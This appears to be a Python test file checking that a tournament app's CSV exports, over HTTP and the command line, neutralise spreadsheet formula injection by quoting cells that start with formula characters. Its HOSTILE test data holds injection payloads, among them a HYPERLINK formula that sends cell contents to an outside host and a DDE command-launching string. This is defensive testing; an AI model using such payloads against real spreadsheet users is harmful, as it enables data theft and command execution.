"""Issue 47, item 8: the tournament's CSV exports (results and standings, over HTTP and the CLI) neutralise
a cell a spreadsheet would run as a formula (OWASP's rule: a leading =, +, -, @, TAB or CR gets a single
quote before it), keep the value readable, and leave plain numbers (a negative one too) as numbers."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from fastapi.testclient import TestClient
from typer.testing import CliRunner

from controller.tournament import FORMULA_LEADS, Tournament, csv_cell
from controller.tournament_file import TournamentFile
from display.hub import Hub
from display.mqtt import Hall
from display.tournament_app import TournamentView, create_tournament_app

HOSTILE = ('=HYPERLINK("http://x/?"&A1,"ok")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tann", "\rbob")
TABLES = ("-t1", "t2", "t3")  # a table id may start with a minus


def spec() -> TournamentFile:
    return TournamentFile.model_validate(
        {
            "tournament": {"name": "Open", "tables": list(TABLES)},
            "players": [{"name": n} for n in HOSTILE],
            "rounds": [{"game": "die-angler"}] * 2,
        }
    )


def toml_file(path: Path) -> Path:
    def q(s: str) -> str:
        return json.dumps(s)  # a TOML basic string is a JSON string here

    text = '[tournament]\nname = "Open"\ntables = [' + ", ".join(q(t) for t in TABLES) + "]\n"
    text += "".join(f"[[players]]\nname = {q(p)}\n" for p in HOSTILE)
    text += '[[rounds]]\ngame = "die-angler"\n' * 2
    path.write_text(text, encoding="utf-8")
    return path


def played(db: Path) -> Tournament:
    t = Tournament(spec(), db)
    t.start_next_round()
    for i, m in enumerate(t.matches(1)):
        t.enter_result(m["table"], 1, {p: 10 * i + j for j, p in enumerate(m["players"])}, who="Yuki")
    t.start_next_round()  # round 2 playing: its rows carry no score yet
    return t


def cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def assert_neutral(text: str) -> None:
    """No cell starts with a formula lead; every hostile name is there, readable, behind one quote."""
    every = cells(text)
    leading = [c for c in every if c.startswith(FORMULA_LEADS)]
    assert leading == [], leading
    for name in HOSTILE:
        assert "'" + name in every, name


def test_the_results_and_standings_csv_quote_every_formula_leading_cell(tmp_path: Path) -> None:
    t = played(tmp_path / "t.sqlite3")
    results, standings = t.export_csv(), t.export_standings_csv()
    assert_neutral(results)
    assert_neutral(standings)
    assert "'-t1" in cells(results)  # a table's name is a cell too
    # the numbers stay numbers: the standings' points and scores are read back as ints
    rows = list(csv.DictReader(io.StringIO(standings)))
    assert all(r["points"].isdigit() and r["game_score"].isdigit() for r in rows)
    t.close()


def test_over_http_and_the_cli_the_exports_are_neutral_too(tmp_path: Path) -> None:
    db = tmp_path / "t.sqlite3"
    t = played(db)
    client = TestClient(create_tournament_app(TournamentView(t, Hall(), Hub())))
    for path in ("/api/export.csv", "/api/standings.csv"):
        r = client.get(path)
        assert r.status_code == 200
        assert_neutral(r.text)
    t.close()
    runner = CliRunner()
    from controller.cli import app

    file = toml_file(tmp_path / "open.toml")
    for fmt in ("csv", "standings"):
        out = runner.invoke(app, ["tournament-export", str(file), "--db", str(db), "--format", fmt])
        assert out.exit_code == 0, out.output
        assert_neutral(out.stdout)


def test_a_plain_number_is_left_a_number_and_anything_else_leading_with_a_minus_is_quoted() -> None:
    assert csv_cell(-3) == -3 and csv_cell(-0.5) == -0.5 and csv_cell(True) is True
    assert csv_cell("-3") == "-3" and csv_cell("-12.25") == "-12.25"
    assert csv_cell("-3+A1") == "'-3+A1" and csv_cell("-") == "'-" and csv_cell("--1") == "'--1"
    assert csv_cell("ann") == "ann" and csv_cell("") == "" and csv_cell("a=b") == "a=b"
